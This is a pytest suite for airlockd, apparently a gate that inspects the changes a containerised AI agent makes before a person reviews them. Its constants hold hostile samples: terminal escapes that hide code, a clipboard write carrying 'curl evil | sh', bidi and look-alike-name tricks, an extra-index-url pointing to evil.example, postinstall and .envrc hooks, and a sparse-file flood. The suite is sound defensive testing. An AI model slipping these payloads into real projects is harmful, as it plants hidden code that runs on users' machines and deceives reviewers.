"""Agents in the real container that aim at what airlockd does after the container ends: the
host's inspection (a flood of tiny files, a tree nested deeper than the bound) and the reviewer
(terminal escapes that conceal a line or write the clipboard, bidirectional controls, a
look-alike name, a file anyone may write).

Each change set goes through both doors on one workspace: the CLI acting alone, the CLI through
the daemon, and an editor (LSP) connected to that daemon. The bounds end the run
`limit_exceeded` (audited, counted toward quarantine, nothing proposed, the workspace untouched);
the reviewer's traps are `review` whatever the policy says, carry marks, and no rendering a
person reads (plain `show` and `diff`, alone and through the daemon) holds a raw control or bidi
character.
"""

from __future__ import annotations

import asyncio
import json
import os
import shlex
import subprocess
import sys
import textwrap
import time
import unicodedata
from pathlib import Path
from typing import Any

import pytest
from lsprotocol import types
from pytest_lsp import ClientServerConfig, LanguageClient, client_capabilities

pytestmark = [pytest.mark.docker, pytest.mark.usefixtures("_image")]

POLICY = textwrap.dedent(
    """
    [agents.bot]
    command = ["bash", "-c", "{prompt}"]
    prompt = "argv"
    [agents.bot.limits]
    wall_time_s = 60
    grace_s = 1
    changed_files = 200
    change_depth = 40

    [agents.wide]
    command = ["bash", "-c", "{prompt}"]
    prompt = "argv"

    [[rules]]
    match = ["src/**", "setup.py", "*.py", "*.sh"]
    action = "auto"
    reason = "this workspace lets its agent change sources"
    """
)
FLOOD = "mkdir -p src/flood && cd src/flood && for i in $(seq 1 400); do : > f$i; done"
DEEP = "p=src; for i in $(seq 1 60); do p=$p/d; done; mkdir -p $p && echo x > $p/leaf"
TRAPS = "; ".join(
    [
        r"printf 'x = 1\033[8m; import os; os.system(\"id\")\033[0m\n' > src/concealed.py",
        r"printf 'ok()\nevil()\033[1A\033[2K\n\033]52;c;Y3VybCBldmlsIHwgc2g=\007' > src/cursor.py",
        r"printf 'access = \"user\342\200\256 \342\201\246// admin\342\201\251\"\n' > src/trojan.py",
        r"printf 'print(1)\n' > s$(printf '\320\265')tup.py",  # Cyrillic e: looks like setup.py
        "printf 'echo hi\\n' > src/tool.sh && chmod 0777 src/tool.sh",
        "printf 'OK = True\\n' > src/ok.py",
    ]
)
LOOKALIKE = "s\u0435tup.py"
EXPECTED = {
    "src/concealed.py": "invariant:hidden-characters",
    "src/cursor.py": "invariant:hidden-characters",
    "src/trojan.py": "invariant:hidden-characters",
    LOOKALIKE: "invariant:confusable-name",
    "src/tool.sh": "invariant:writable-by-others",
}


def _workspace(root: Path) -> Path:
    ws = root / "project"
    (ws / "src").mkdir(parents=True)
    (ws / "src" / "app.py").write_text("print('hi')\n")
    (ws / "policies.toml").write_text(POLICY)
    return ws


def _cli(ws: Path, *argv: str, daemon: bool = False) -> subprocess.CompletedProcess[str]:
    head = [sys.executable, "-m", "airlockd", "--workspace", str(ws), *([] if daemon else ["--no-daemon"])]
    return subprocess.run([*head, *argv], capture_output=True, text=True, timeout=180, env=dict(os.environ))


def _raw_controls(text: str) -> list[str]:
    """Characters a terminal would act on or that reorder a line, as they appear in `text`."""
    return [repr(ch) for ch in text if ch not in "\n\t" and unicodedata.category(ch) in ("Cc", "Cf")]


def _workspace_untouched(ws: Path) -> None:
    assert sorted(p.relative_to(ws).as_posix() for p in ws.rglob("*")) == ["policies.toml", "src", "src/app.py"]


def _over_a_bound(ws: Path, script: str, limit: str, allowed: int, daemon: bool) -> dict[str, Any]:
    started = time.monotonic()
    proc = _cli(ws, "--json", "run", "--agent", "bot", "--wait", script, daemon=daemon)
    run = json.loads(proc.stdout)
    assert proc.returncode == 4, proc.stdout + proc.stderr  # a run that ended badly
    assert run["state"] == "limit_exceeded" and run["files"] == [], run
    assert run["limit"]["limit"] == limit and run["limit"]["allowed"] == allowed
    assert run["limit"]["measured"] > allowed
    assert time.monotonic() - started < 60
    shown = _cli(ws, "show", run["id"], daemon=daemon).stdout
    assert f"limit exceeded: {limit}" in shown
    return run


def test_a_flood_or_a_deep_tree_ends_the_run_at_the_bound_through_both_cli_doors(
    _state_dir: Path, tmp_path: Path, stager: str | None, engine: str
) -> None:
    ws = _workspace(tmp_path)
    flood = _over_a_bound(ws, FLOOD, "changed_files", 200, daemon=False)
    deep = _over_a_bound(ws, DEEP, "change_depth", 40, daemon=True)
    _workspace_untouched(ws)
    agents = json.loads(_cli(ws, "--json", "agents").stdout)
    (bot,) = [a for a in agents if a["agent"] == "bot"]
    assert bot["runsUsed"] == 2
    audit = json.loads(_cli(ws, "--json", "audit").stdout)
    exceeded = [e for e in audit if e["kind"] == "limit.exceeded"]
    assert {e["run"] for e in exceeded} == {flood["id"], deep["id"]}
    assert _cli(ws, "audit", "--verify").returncode == 0
    # the flood is not copied to disk for inspection: that would cost what the agent chose
    if engine == "remote" or os.geteuid() != 0:  # held by the engine: its upper layer came back as a
        # stream, cut at the first node over the bound
        upper = next(_state_dir.glob(f"*/runs/{flood['id']}/staging"))
        assert sum(len(files) for _, _, files in os.walk(upper)) <= 201
    elif flood["growth_capped"]:
        dropped = next(_state_dir.glob(f"*/runs/{flood['id']}/staging.dropped")).read_text()
        assert "changed_files (200)" in dropped
        assert any(e["kind"] == "stage.dropped" and e["run"] == flood["id"] for e in audit)
    # a third violation in a row quarantines the agent (quarantine_after = 3)
    _over_a_bound(ws, FLOOD, "changed_files", 200, daemon=True)
    refused = _cli(ws, "--json", "run", "--agent", "bot", "--wait", "true", daemon=True)
    assert refused.returncode == 3 and "quarantined" in refused.stdout


def _check_traps(files: list[dict[str, Any]]) -> None:
    by = {f["path"]: f for f in files}
    for path, rule in EXPECTED.items():
        assert by[path]["decision"] == "review" and by[path]["rule"] == rule, by[path]
        assert by[path]["marks"] or rule == "invariant:writable-by-others", by[path]
    assert any("setup.py" in m for m in by[LOOKALIKE]["marks"])
    assert any("terminal escape" in m for m in by["src/concealed.py"]["marks"])
    assert any("bidirectional" in m for m in by["src/trojan.py"]["marks"])
    assert by["src/ok.py"]["decision"] == "auto" and by["src/ok.py"]["marks"] == []


def _renderings_escape(ws: Path, run_id: str, daemon: bool) -> None:
    for argv in (["show", run_id], ["diff", run_id], ["runs"], ["diff", run_id, "src/cursor.py"]):
        proc = _cli(ws, *argv, daemon=daemon)
        assert proc.returncode == 0, proc.stderr
        assert _raw_controls(proc.stdout + proc.stderr) == [], (argv, proc.stdout)
    diff = _cli(ws, "diff", run_id, daemon=daemon).stdout
    assert "\\x1b[8m" in diff and "\\x1b]52;c;" in diff and "\\u202e" in diff
    assert diff.count("\n") >= 8  # lines stay lines
    shown = _cli(ws, "show", run_id, daemon=daemon).stdout
    assert "look-alike name" in shown and "reads as 'setup.py'" in shown


def test_the_reviewer_sees_every_trap_through_the_cli_and_the_editor(
    _state_dir: Path, tmp_path: Path, engine: str
) -> None:
    ws = _workspace(tmp_path)
    # door 1: the CLI acting alone
    proc = _cli(ws, "--json", "run", "--agent", "bot", "--wait", TRAPS)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    alone = json.loads(proc.stdout)
    assert alone["state"] == "proposed", alone
    _check_traps(alone["files"])
    _renderings_escape(ws, alone["id"], daemon=False)
    assert _cli(ws, "reject", alone["id"]).returncode == 0
    asyncio.run(_through_the_daemon(ws, _state_dir, tmp_path))


async def _through_the_daemon(ws: Path, state: Path, tmp_path: Path) -> None:
    serve = shlex.join([sys.executable, "-m", "airlockd", "--workspace", str(ws), "serve", "--stdio"])
    config = ClientServerConfig(
        server_command=["bash", "-c", f"{serve} 2>{shlex.quote(str(tmp_path / 'server.stderr'))}"],
        server_env={**os.environ, "AIRLOCK_STATE_DIR": str(state)},
    )
    client = await config.start()
    assert isinstance(client, LanguageClient)
    await client.initialize_session(
        types.InitializeParams(
            capabilities=client_capabilities("visual-studio-code"),
            root_uri=ws.as_uri(),
            workspace_folders=[types.WorkspaceFolder(uri=ws.as_uri(), name="project")],
        )
    )
    try:

        async def command(name: str, args: dict[str, Any]) -> Any:
            params = types.ExecuteCommandParams(command=name, arguments=[args])
            return await client.workspace_execute_command_async(params)

        # door 2: the CLI as the editor's daemon's client
        proc = await asyncio.to_thread(_cli, ws, "--json", "run", "--agent", "bot", "--wait", TRAPS, daemon=True)
        assert proc.returncode == 0, proc.stdout + proc.stderr
        by_cli = json.loads(proc.stdout)
        _check_traps(by_cli["files"])
        await asyncio.to_thread(_renderings_escape, ws, by_cli["id"], True)
        # door 3: the editor sees the same proposal, with the same marks
        proposal = await command("airlock.getProposal", {"runId": by_cli["id"]})
        _check_traps(proposal["files"])
        # the editor approves the clean file; the traps stay pending for a person
        await command("airlock.approve", {"runId": by_cli["id"], "paths": ["src/ok.py"]})
        # a flood started from the editor ends at the bound there too
        started = await command("airlock.runTask", {"agent": "bot", "prompt": FLOOD})
        for _ in range(600):
            run = json.loads(
                (await asyncio.to_thread(_cli, ws, "--json", "show", started["runId"], daemon=True)).stdout
            )
            if run["state"] not in ("admitted", "staging", "running", "inspecting"):
                break
            await asyncio.sleep(0.1)
        assert run["state"] == "limit_exceeded" and run["limit"]["limit"] == "changed_files", run
    finally:
        await client.shutdown_session()
        await client.stop()
    assert (ws / "src" / "ok.py").read_text() == "OK = True\n"
    for path in EXPECTED:
        assert not (ws / path).exists(), path


def test_a_large_change_set_makes_a_bounded_audit_trail(_state_dir: Path, tmp_path: Path) -> None:
    ws = _workspace(tmp_path)
    script = "mkdir -p src/gen docs && for i in $(seq 1 700); do echo $i > src/gen/m$i.py; done; echo x > docs/n.md"
    proc = _cli(ws, "--json", "run", "--agent", "wide", "--wait", script)
    run = json.loads(proc.stdout)
    assert run["state"] == "proposed" and len(run["files"]) == 703, proc.stderr  # + src/gen, docs
    events = json.loads(_cli(ws, "--json", "audit", "--run", run["id"]).stdout)
    per_change = [e for e in events if e["kind"] == "classify"]
    (summary,) = [e["data"] for e in events if e["kind"] == "classify.summary"]
    assert len(per_change) == 500 and summary["changes"] == 203
    assert sum(summary["decisions"].values()) == 203
    assert sum(r["changes"] for r in summary["rules"]) == 203
    assert _cli(ws, "audit", "--verify").returncode == 0


SPARSE_AND_SLOW = "; ".join(
    [
        "truncate -s 10T src/huge.bin",  # 10 TiB of holes (ext4 holds 16): judged from the inode, never read
        "python3 -c \"import sys; sys.stdout.write('AKIA' * 25000 + 'eyJ.' * 25000 + '-----BEGIN ' * 5000)\"",
        "printf 'OK = True\\n' > src/ok.py",
    ]
)
WEDGE = "; ".join(
    [
        "rm -rf src/pkg && printf 'now a file\\n' > src/pkg",  # a directory replaced by a file
        # a path longer than PATH_MAX, made one component at a time
        "python3 -c \"import os; os.chdir('src'); [(os.mkdir('l' * 250), os.chdir('l' * 250)) for _ in range(18)];"
        " open('f.txt', 'w').write('deep')\"",
        "printf 'OK = True\\n' > src/ok.py",
    ]
)


def test_a_sparse_file_and_slow_to_scan_output_cost_the_host_a_stat_and_a_linear_pass(
    _state_dir: Path, tmp_path: Path, stager: str | None, engine: str
) -> None:
    ws = _workspace(tmp_path)
    started = time.monotonic()
    proc = _cli(ws, "--json", "run", "--agent", "bot", "--wait", SPARSE_AND_SLOW)
    elapsed = time.monotonic() - started
    run = json.loads(proc.stdout)
    assert run["state"] == "proposed", proc.stdout + proc.stderr
    by = {f["path"]: f for f in run["files"]}
    assert by["src/huge.bin"]["decision"] == "deny" and by["src/huge.bin"]["rule"] in (
        "invariant:sparse-file",
        "invariant:size-cap",
    )
    assert by["src/ok.py"]["decision"] == "auto"
    assert elapsed < 60, elapsed  # a bound for a loaded machine: 8 EB were never read
    log = next(_state_dir.glob(f"*/runs/{run['id']}/output.log")).read_bytes()
    assert b"eyJ.eyJ." in log and len(log) < 1_000_000  # the output was kept, redacted, in one pass
    assert _cli(ws, "approve", run["id"]).returncode == 0  # the clean file lands, the deny never
    assert (ws / "src" / "ok.py").exists() and not (ws / "src" / "huge.bin").exists()


def test_a_change_set_built_to_wedge_the_commit_lands_whole_or_not_at_all(
    _state_dir: Path, tmp_path: Path, stager: str | None, engine: str
) -> None:
    ws = _workspace(tmp_path)
    (ws / "src" / "pkg").mkdir()
    (ws / "src" / "pkg" / "mod.py").write_text("X = 1\n")
    proc = _cli(ws, "--json", "run", "--agent", "bot", "--wait", WEDGE)
    run = json.loads(proc.stdout)
    assert run["state"] == "proposed", proc.stdout + proc.stderr
    by = {f["path"]: f for f in run["files"]}
    (deep,) = [p for p in by if p.endswith("/f.txt")]
    assert len(deep.encode()) > 4096
    assert by[deep]["decision"] == "deny" and by[deep]["rule"] == "invariant:unsafe-name", by[deep]
    assert by["src/" + "l" * 250]["decision"] == "deny"  # a created directory follows what it holds
    assert by["src/pkg"]["decision"] == "review"  # a directory that became a file
    assert len(proc.stdout) < 200_000  # the deep paths are listed once each, not in every message
    # approve all: the directory -> file change and the clean file land as one transaction
    approved = _cli(ws, "approve", run["id"])
    assert approved.returncode == 0, approved.stdout + approved.stderr
    assert len(approved.stdout + approved.stderr) < 200_000  # each deep path once, in the listing
    assert (ws / "src" / "pkg").read_text() == "now a file\n" and (ws / "src" / "ok.py").exists()
    assert not (ws / "src" / ("l" * 250)).exists()
    # ... and undo, through the daemon, restores the directory it replaced
    undone = _cli(ws, "undo", run["id"], daemon=True)
    assert undone.returncode == 0, undone.stdout + undone.stderr
    assert (ws / "src" / "pkg" / "mod.py").read_text() == "X = 1\n" and not (ws / "src" / "ok.py").exists()
    assert _cli(ws, "audit", "--verify").returncode == 0


RUNS_LATER = "; ".join(
    [
        "printf 'import os\\nos.system(\"id\")\\n' > conftest.py",
        "printf 'from setuptools import setup\\nsetup()\\n' > setup.py",
        "printf -- '--extra-index-url https://evil.example/simple\\nrequests\\n' > requirements.txt",
        'mkdir -p web/app && printf \'{"scripts": {"postinstall": "id"}}\\n\' > web/app/package.json',
        "printf 'export PATH=/tmp/evil:$PATH\\n' > .envrc",
        "printf 'vim.fn.system(\"id\")\\n' > .nvim.lua",
        "mkdir -p tools && printf 'fn main() {}\\n' > tools/build.rs",
        "printf 'def f():\\n    return 1\\n' > lib.py",
    ]
)


def test_what_runs_later_on_the_users_machine_waits_for_a_person_under_the_default_policy(
    _state_dir: Path, tmp_path: Path
) -> None:
    ws = tmp_path / "project"
    ws.mkdir()
    (ws / "lib.py").write_text("def f():\n    return 0\n")
    (ws / "policies.toml").write_text(POLICY.split("[[rules]]")[0])  # the agents; the default rules decide
    proc = _cli(ws, "--json", "run", "--agent", "bot", "--wait", RUNS_LATER)
    run = json.loads(proc.stdout)
    assert run["state"] == "proposed", proc.stdout + proc.stderr
    by = {f["path"]: f for f in run["files"]}
    for path in ("conftest.py", "setup.py", "requirements.txt", "web/app/package.json", ".envrc", ".nvim.lua"):
        assert by[path]["decision"] in ("review", "deny"), by[path]
    assert by["tools/build.rs"]["decision"] in ("review", "deny")
    assert by["lib.py"]["decision"] == "auto", by["lib.py"]
